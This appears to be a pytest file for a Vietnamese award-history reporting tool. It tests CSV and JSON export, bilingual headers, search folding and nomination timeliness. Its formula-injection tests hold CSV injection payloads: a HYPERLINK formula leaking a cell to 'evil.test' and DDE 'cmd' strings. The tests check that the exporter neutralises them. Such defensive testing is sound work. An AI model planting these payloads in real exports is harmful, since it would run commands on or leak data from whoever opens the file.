"""Report-format plugins (found through the thidua.report_formats entry points), the award
columns, search folding and nomination timeliness (pure)."""

import csv
import io
import json
from datetime import date

from thidua_reporting.awards.projection import fold
from thidua_reporting.awards.service import COLUMNS, timeliness_of
from thidua_reporting.formats import Column, CsvFormat, JsonFormat, display, load_formats, neutralise_formula

ROWS = [
    {
        "decision_date": date(2018, 12, 5),
        "decision_number": "2457/QĐ-UBND",
        "award_name": "Bằng khen của Chủ tịch UBND tỉnh",
        "person_name": "Nguyễn Thị Hồng Nhung",
        "unit_name": "Sở Nội vụ, tỉnh Đắk Nông",
        "year": 2018,
    }
]
# the award history's own columns, those ROWS fill
COLS = [c for c in COLUMNS if c.key in ("decision_date", "decision_number", "award_name", "person_name", "unit_name", "year")]


def test_csv_and_json_are_found_through_their_entry_points():
    formats = load_formats()
    assert {"csv", "json"} <= set(formats)
    for f in formats.values():
        assert f.name and f.media_type and f.file_extension and callable(f.render)


def test_csv_has_a_bom_vietnamese_headers_and_vietnamese_dates():
    data = CsvFormat().render(ROWS, COLS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Ngày quyết định", "Số quyết định", "Danh hiệu / hình thức khen thưởng", "Họ và tên", "Đơn vị", "Năm"]
    assert rows[1] == ["05/12/2018", "2457/QĐ-UBND", "Bằng khen của Chủ tịch UBND tỉnh", "Nguyễn Thị Hồng Nhung",
                       "Sở Nội vụ, tỉnh Đắk Nông", "2018"]  # the comma inside a name is quoted, not split


def test_csv_in_english_has_english_headers_and_iso_dates():
    rows = list(csv.reader(io.StringIO(CsvFormat().render(ROWS, COLS, "en").decode("utf-8-sig"))))
    assert rows[0][0] == "Decision date" and rows[1][0] == "2018-12-05"


def test_json_keeps_keys_and_iso_dates():
    out = json.loads(JsonFormat().render(ROWS, COLS))
    assert out["columns"][0] == {"key": "decision_date", "title": "Ngày quyết định"}
    assert out["rows"][0]["decision_date"] == "2018-12-05"
    assert out["rows"][0]["year"] == 2018
    assert out["rows"][0]["person_name"] == "Nguyễn Thị Hồng Nhung"


def test_empty_cells_and_numbers():
    assert display(None) == ""
    assert display(1234.5) == "1.234,5"
    assert display(1234.5, "en") == "1,234.5"


def test_award_columns_have_vietnamese_and_english_titles():
    assert all(c.vi and c.en for c in COLUMNS)
    assert len({c.key for c in COLUMNS}) == len(COLUMNS)


def test_fold_ignores_diacritics_and_case():
    assert fold("Đắk Nông") == "dak nong"
    assert fold("Bằng khen") in fold("BẰNG KHEN của Chủ tịch")


def test_timeliness_per_stage():
    def stage(name, entered, left=None, due=None, days=None):
        return {"stage": name, "entered_at": entered, "left_at": left, "due_on": due, "working_days": days}

    nominations = [
        {"nomination_id": "n1", "stages": [
            stage("tham-dinh", "2026-03-02T01:00:00+00:00", "2026-03-12T01:00:00+00:00", "2026-03-13", 8),
            stage("hoi-dong", "2026-03-12T01:00:00+00:00", None, "2026-03-20", None),
        ]},
        {"nomination_id": "n2", "stages": [
            stage("tham-dinh", "2026-03-02T01:00:00+00:00", "2026-03-20T01:00:00+00:00", "2026-03-13", 14),
        ]},
        {"nomination_id": "n3", "stages": [stage("tham-dinh", "2026-03-25T01:00:00+00:00", None, "2026-04-07")]},
    ]
    alerts = [{"nomination_id": "n3", "stage": "tham-dinh"}]
    out = {s["stage"]: s for s in timeliness_of(nominations, alerts, date(2026, 3, 30))}
    assert out["tham-dinh"] == {"stage": "tham-dinh", "count": 3, "in_stage_now": 1, "average_working_days": 11.0,
                                "max_working_days": 14.0, "overdue": 2}  # n2 left late; n3 alerted
    assert out["hoi-dong"]["overdue"] == 1  # still in it past its due date
    assert out["hoi-dong"]["average_working_days"] is None


# issue 8: CSV formula injection (OWASP) -----------------------------------------------------

HOSTILE = {
    "decision_date": date(2019, 12, 5),
    "decision_number": "=HYPERLINK(\"http://evil.test/?\"&A1,\"2457\")",
    "signer": "+cmd|' /C calc'!A0",
    "person_name": "-2+3+cmd|' /C calc'!A0",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit_name": "\t=1+1",
    "award_name": "\r=1+1",
    "basis": "   =1+1",
    "campaign_id": "\uff1d1+1",
    "nomination_id": "a;=1+1",
    "year": -2019,
    "score": -12.5,
}
HOSTILE_COLS = [Column(k, k, k, "number" if k in ("year", "score") else "text") for k in HOSTILE]


def _cells(data: bytes) -> dict[str, str]:
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return dict(zip(header, row, strict=True))


def test_csv_cells_that_could_start_a_formula_get_a_single_quote():
    cells = _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS))
    for key in ("decision_number", "signer", "person_name", "position", "unit_name", "award_name", "basis",
                "campaign_id"):
        assert cells[key] == "'" + HOSTILE[key], key  # the text is kept whole, behind one quote
    assert cells["nomination_id"] == "a;=1+1"  # not at the start: no formula
    assert cells["decision_date"] == "05/12/2019"


def test_csv_keeps_negative_numbers_as_numbers():
    cells = _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS))
    assert cells["year"] == "-2019" and cells["score"] == "-12,5"
    assert _cells(CsvFormat().render([HOSTILE], HOSTILE_COLS, "en"))["score"] == "-12.5"


def test_csv_quotes_every_cell_so_a_semicolon_list_separator_cannot_split_one():
    cols = [Column("name", "Tên", "Name"), Column("year", "Năm", "Year", "number")]
    data = CsvFormat().render([{"name": "a;=1+1", "year": 2019}], cols).decode("utf-8-sig")
    assert data == '"Tên","Năm"\r\n"a;=1+1","2019"\r\n'


def test_neutralise_formula_leaves_ordinary_text_alone():
    for text in ("2457/QĐ-UBND", "Nguyễn Thị Hồng Nhung", "", " ", "Sở Nội vụ, tỉnh Đắk Nông", "a-b", "'=1"):
        assert neutralise_formula(text) == text
    for text in ("=1", "+1", "-1", "@a", "\t1", "\r1", "\n=1", " \u00a0=1", "\uff0b1", "\uff0d1", "\uff201"):
        assert neutralise_formula(text) == "'" + text, repr(text)


def test_json_export_keeps_text_exactly_for_programs():
    out = json.loads(JsonFormat().render([HOSTILE], HOSTILE_COLS))
    assert out["rows"][0]["decision_number"] == HOSTILE["decision_number"]
